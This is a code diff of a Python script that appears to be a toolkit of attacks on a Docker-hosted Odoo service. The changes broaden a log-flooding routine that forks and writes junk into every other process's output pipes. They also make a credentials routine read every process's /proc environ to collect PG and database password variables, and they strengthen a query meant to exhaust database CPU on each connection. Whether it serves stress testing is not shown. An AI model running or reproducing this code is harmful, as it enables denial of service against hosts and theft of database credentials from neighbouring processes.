@@ -84,13 +84,22 @@ def disk():
 
 
 def log():
-    """To the pipe that Docker reads, by everybody who can."""
-    line = b'bomb ' * 40 + b'\n'
-    out = os.open('/proc/1/fd/1', os.O_WRONLY)
-    for _ in range(3):
+    """To every pipe of another process that can be opened: one of them is what Docker reads, or leads there."""
+    lines, outs = (b'bomb ' * 40 + b'\n') * 300, []
+    for pid in filter(str.isdigit, os.listdir('/proc')):
+        if int(pid) == os.getpid():
+            continue
+        for number in (1, 2):
+            try:
+                outs.append(os.open(f'/proc/{pid}/fd/{number}', os.O_WRONLY))
+            except OSError:
+                pass
+    print('floods', len(outs), file=sys.stderr)
+    for _ in range(2):
         os.fork()
     while goes_on():
-        os.write(out, line * 300)
+        for out in outs:
+            os.write(out, lines)
 
 
 def files():
@@ -167,10 +176,14 @@ def connect():
 
 
 def credentials():
-    """What Odoo's own process was started with."""
-    with open('/proc/1/environ', 'rb') as file:
-        words = dict(word.split(b'=', 1) for word in file.read().split(b'\0') if b'=' in word)
-    words = {name.decode(): value.decode() for name, value in words.items()}
+    """What Odoo's own process was started with. That of the first process cannot be read."""
+    words = {}
+    for pid in filter(str.isdigit, os.listdir('/proc')):
+        try:
+            with open(f'/proc/{pid}/environ', encoding='utf-8') as file:
+                words.update(word.split('=', 1) for word in file.read().split('\0') if '=' in word)
+        except OSError:
+            pass
     os.environ.update({name: value for name, value in words.items() if re.match('PG|SAYOO_', name)})
     os.environ['PGDATABASE'] = words['SAYOO_DATABASE']
     if 'SAYOO_DB_PASSWORD_FILE' in words:
@@ -220,7 +233,7 @@ def pg_notify():
 
 
 def pg_cpu():
-    on_every_connection('SELECT count(*) FROM generate_series(1, 100000000)')
+    on_every_connection('SELECT count(*) FROM generate_series(1, 30000) AS a, generate_series(1, 30000) AS b')
 
 
 globals()[NAME]()
